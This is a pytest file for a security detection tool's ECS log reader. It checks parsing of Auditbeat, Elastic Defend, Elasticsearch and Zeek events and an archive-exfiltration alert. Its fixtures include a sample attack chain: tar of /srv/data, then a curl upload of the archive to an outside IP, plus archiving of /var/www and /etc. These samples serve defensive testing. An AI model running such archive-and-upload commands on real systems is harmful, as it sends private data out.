"""Golden tests for the ECS source: hand-written documents built from the Auditbeat, Elastic
Defend and ECS field references (an Auditbeat auditd chain in a Docker container, Elastic Defend
on Linux pretty-printed back to back, an Elasticsearch hit with dotted keys in a pod), and the
real Auditbeat, Elastic Defend and Filebeat Zeek documents in ../shared/corpus/realworld, each
read without --format."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.helpers import FALCO, OCSF, TETRAGON, ZEEK, read
from tidewaiter.alerts import alert_container
from tidewaiter.events import (
    Activity,
    Container,
    Endpoint,
    Event,
    File,
    Image,
    Kind,
    Process,
    RawRef,
    Traffic,
)
from tidewaiter.pipeline import EngineConfig
from tidewaiter.run import detect_files
from tidewaiter.sources import all_sources, get

all_sources()
CID = "4f1c2a9e8d7b6c5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d9c8b7a6f5e4d3c2b1a"
BILLING = Container(
    uid=CID,
    name="billing-worker",
    image=Image(name="registry.example.com/billing/worker:2.4"),
    runtime="docker",
)


def test_auditbeat_auditd_in_a_container(fixtures: Path) -> None:
    path = fixtures / "ecs" / "auditbeat_auditd_container.ndjson"
    events, report = read(path)
    assert report.files == {str(path): "ecs"}
    assert (report.records, report.events, report.skipped_total) == (3, 3, 0)
    ref = RawRef("ecs", str(path))
    assert events == [
        Event(
            time=1714644001.0,
            kind=Kind.PROCESS,
            activity=Activity.LAUNCH,
            raw=RawRef("ecs", str(path), line=1),
            host="node-7",
            container=BILLING,
            process=Process(
                pid=4101,
                path="/bin/tar",
                cmd_line="tar czf /tmp/ledger.tgz /srv/data",
                args=("tar", "czf", "/tmp/ledger.tgz", "/srv/data"),
                cwd="/srv",
                user="root",
                parent=Process(pid=4000),
            ),
        ),
        Event(
            time=1714644009.0,
            kind=Kind.PROCESS,
            activity=Activity.LAUNCH,
            raw=RawRef("ecs", str(path), line=2),
            host="node-7",
            container=BILLING,
            process=Process(
                pid=4102,
                path="/usr/bin/curl",
                cmd_line="curl -sS -T /tmp/ledger.tgz https://203.0.113.50/upload",
                args=("curl", "-sS", "-T", "/tmp/ledger.tgz", "https://203.0.113.50/upload"),
                cwd="/srv",
                user="root",
                parent=Process(pid=4000),
            ),
        ),
        Event(
            time=1714644009.2,
            kind=Kind.NETWORK,
            activity=Activity.CONNECT,
            raw=RawRef("ecs", ref.path, line=3),
            host="node-7",
            container=BILLING,
            process=Process(pid=4102, path="/usr/bin/curl", user="root"),
            dst_endpoint=Endpoint(ip="203.0.113.50", port=443),
        ),
    ]


def test_the_auditbeat_chain_alerts(fixtures: Path) -> None:
    outcome = detect_files(
        [str(fixtures / "ecs" / "auditbeat_auditd_container.ndjson")], EngineConfig(), []
    )
    assert [a["finding_info"]["analytic"]["uid"] for a in outcome.alerts] == ["tw-archive-exfil"]
    alert = outcome.alerts[0]
    assert alert_container(alert)["uid"] == CID
    assert alert["severity"] == "Critical"  # an upload tool naming the archive


def test_elastic_defend_pretty_printed_documents_back_to_back(fixtures: Path) -> None:
    path = fixtures / "ecs" / "defend_linux_pretty.json"
    events, report = read(path)
    assert report.files == {str(path): "ecs"}
    assert (report.records, report.events, report.skipped_total) == (3, 3, 0)
    launch, created, connect = events
    assert launch.raw == RawRef("ecs", str(path), line=1, record_id="N1")
    assert launch.host == "web-3"
    assert launch.process == Process(
        pid=7001,
        uid="ZW50aXR5LTcwMDE=",
        path="/usr/bin/zip",
        cmd_line="zip -r /var/tmp/site.zip /var/www",
        args=("zip", "-r", "/var/tmp/site.zip", "/var/www"),
        cwd="/var/www",
        user="www-data",
        parent=Process(
            pid=6990, uid="ZW50aXR5LTY5OTA=", path="/bin/bash", cmd_line="bash", args=("bash",)
        ),
    )
    # file.Ext.header_bytes: the first bytes of content, a zip's magic here.
    assert (created.kind, created.activity) == (Kind.FILE, Activity.CREATE)
    assert created.file == File(
        path="/var/tmp/site.zip", size=1048576, magic=bytes.fromhex("504b0304140000000800")
    )
    starts = [n for n, line in enumerate(path.read_text().splitlines(), 1) if line == "{"]
    assert [e.raw.line for e in events] == starts  # each document cited at its first line
    assert [e.raw.record_id for e in events] == ["N1", "N2", "N3"]
    assert (connect.kind, connect.activity) == (Kind.NETWORK, Activity.CONNECT)
    assert connect.src_endpoint == Endpoint(ip="10.1.2.3", port=51000)
    assert connect.dst_endpoint == Endpoint(ip="198.51.100.80", port=443)


def test_auditd_raw_records_go_through_the_auditd_reader(fixtures: Path) -> None:
    """auditd.messages holds the raw records: the auditd reader joins them (hex PROCTITLE, CWD),
    and the document names the container the records do not."""
    path = fixtures / "ecs" / "auditbeat_auditd_raw.json"
    (event,), report = read(path)
    assert report.files == {str(path): "ecs"}
    assert event.raw == RawRef("ecs", str(path), line=1, record_id="2001")
    assert event.process == Process(
        pid=901,
        path="/usr/bin/tar",
        cmd_line="tar -czf /tmp/out.tgz /etc",
        args=("tar", "-czf", "/tmp/out.tgz", "/etc"),
        cwd="/root",
        user="0",
        session="1",  # auditd ses: the login session the process belongs to
        parent=Process(pid=900),
    )
    assert event.host == "node-7"
    assert event.container == Container(uid=CID, name="billing-worker")


def test_a_whole_search_response(tmp_path: Path, fixtures: Path) -> None:
    hit = json.loads((fixtures / "ecs" / "elasticsearch_hits.ndjson").read_text())
    path = tmp_path / "search.json"
    path.write_text(
        json.dumps({"took": 3, "hits": {"total": {"value": 2}, "hits": [hit, hit]}}, indent=2)
    )
    events, report = read(path)
    assert report.files == {str(path): "ecs"}
    assert len(events) == 2


def test_elasticsearch_hit_with_dotted_keys_in_a_pod(fixtures: Path) -> None:
    path = fixtures / "ecs" / "elasticsearch_hits.ndjson"
    (event,), report = read(path)
    assert report.files == {str(path): "ecs"}
    assert event.container == Container(
        uid="pod:payments/api-5d8c7/api", name="api", pod_name="api-5d8c7", namespace="payments"
    )
    assert event.process is not None
    assert event.process.args == ("7z", "a", "-pS3cret", "/tmp/x.7z", "/etc")
    assert event.host == "node-2"


def test_inbound_connections_are_kept_but_not_as_connecting_out(tmp_path: Path) -> None:
    path = tmp_path / "socket.ndjson"
    path.write_text(
        '{"@timestamp":"2024-05-02T10:00:00Z","event":{"module":"system","dataset":"socket",'
        '"action":"socket_opened"},"network":{"direction":"inbound"},"process":{"pid":9,'
        '"name":"sshd"},"source":{"ip":"203.0.113.9","port":50000},"destination":'
        '{"ip":"10.0.0.5","port":22}}\n'
    )
    (event,), _ = read(path)
    assert (event.kind, event.activity) == (Kind.NETWORK, Activity.OTHER)


def test_windows_event_log_documents_are_left_to_the_windows_reader() -> None:
    winlogbeat = (
        b'{"@timestamp":"2024-05-02T10:00:00Z","ecs":{"version":"8.0.0"},"event":{"code":"1",'
        b'"module":"sysmon"},"winlog":{"channel":"Microsoft-Windows-Sysmon/Operational",'
        b'"event_id":"1","event_data":{"Image":"C:\\\\Windows\\\\System32\\\\tar.exe"}}}\n'
    )
    assert not get("ecs").sniff(winlogbeat)
    assert not get("ecs").sniff(b'{"@timestamp":"x","winlog.event_id":"1","event.code":"1"}\n')


@pytest.mark.parametrize("head", [TETRAGON, FALCO, OCSF, ZEEK, b"", b"[]\n"])
def test_sniff_rejects_other_formats(head: bytes) -> None:
    assert not get("ecs").sniff(head)


# --- the real documents ---------------------------------------------------------------------


def _only(path: Path) -> tuple[Event | None, int]:
    events, report = read(path)
    assert report.files == {str(path): "ecs"}, "recognised without --format"
    assert report.records == 1
    assert report.skipped_total == 0
    return (events[0] if events else None), report.ignored


@pytest.mark.corpus
def test_real_auditbeat_documents(corpus: Path) -> None:
    folder = corpus / "realworld" / "ecs_auditbeat_linux"
    stopped, _ = _only(folder / "auditbeat_system_process_data.json")
    assert stopped is not None
    assert (stopped.kind, stopped.activity, stopped.time) == (
        Kind.PROCESS,
        Activity.EXIT,
        1507795534.853,
    )
    assert stopped.process == Process(
        pid=9086,
        uid="+fYshazplsMYlr0y",
        path="/bin/zsh",
        cmd_line="zsh",
        args=("zsh",),
        cwd="/home/elastic",
        user="elastic",
        parent=Process(pid=9085),
    )
    socket, _ = _only(folder / "auditbeat_system_socket_data.json")
    assert socket is not None  # inbound to sshd: kept, not as this host connecting out
    assert (socket.kind, socket.activity) == (Kind.NETWORK, Activity.OTHER)
    assert socket.src_endpoint == Endpoint(ip="10.0.2.2", port=55270)
    assert socket.dst_endpoint == Endpoint(ip="10.0.2.15", port=22)
    assert socket.process == Process(pid=22799, path="sshd", user="root")
    # The auditd module's raw records go through the auditd reader: a netlink sendto by
    # auditbeat itself carries nothing tidewaiter uses.
    nothing, ignored = _only(folder / "auditd_manager_sample_event.json")
    assert (nothing, ignored) == (None, 1)


@pytest.mark.corpus
def test_real_elastic_defend_documents(corpus: Path) -> None:
    folder = corpus / "realworld" / "ecs_elastic_defend"
    start, _ = _only(folder / "endpoint_process_sample_event.json")
    assert start is not None
    assert (start.kind, start.activity, start.host) == (
        Kind.PROCESS,
        Activity.LAUNCH,
        "data-viz-win-1",
    )
    assert start.process is not None
    assert start.process.cmd_line == "C:\\Windows\\System32\\svchost.exe -k WerSvcGroup"
    assert start.process.parent is not None
    assert start.process.parent.path == "C:\\Windows\\System32\\services.exe"
    assert start.process.parent.pid == 600
    created, _ = _only(folder / "endpoint_file_sample_event.json")
    assert created is not None
    assert (created.kind, created.activity) == (Kind.FILE, Activity.CREATE)
    assert created.file == File(
        path="C:\\ProgramData\\winlogbeat\\.winlogbeat.yml.new",
        size=1406,
        magic=b"update_time: 202",
    )
    assert created.process is not None
    assert created.process.path == "C:\\Program Files\\Winlogbeat\\winlogbeat.exe"
    closed, _ = _only(folder / "endpoint_network_sample_event.json")
    assert closed is not None
    assert (closed.kind, closed.activity, closed.host) == (
        Kind.NETWORK,
        Activity.CLOSE,
        "mgmt-win-1",
    )
    assert closed.src_endpoint == Endpoint(ip="10.201.0.32", port=54924)
    assert closed.dst_endpoint == Endpoint(ip="64.233.191.95", port=443)
    assert closed.traffic == Traffic(bytes_out=498, bytes_in=4923)


@pytest.mark.corpus
def test_real_filebeat_zeek_connection(corpus: Path) -> None:
    path = (
        corpus
        / "realworld"
        / "zeek_filebeat_ecs"
        / "integrations_zeek_connection_sample_event.json"
    )
    flow, _ = _only(path)
    assert flow == Event(
        time=1547188417.857,
        kind=Kind.NETWORK,
        activity=Activity.TRAFFIC,
        raw=RawRef("ecs", str(path), line=1, record_id="CAcJw21BbVedgFnYH5"),
        # A network sensor's flow: host.name is the sensor's, so none is set.
        src_endpoint=Endpoint(ip="4.4.2.2", port=38334),
        dst_endpoint=Endpoint(ip="8.8.8.8", port=53),
        traffic=Traffic(bytes_out=103, bytes_in=206),
    )
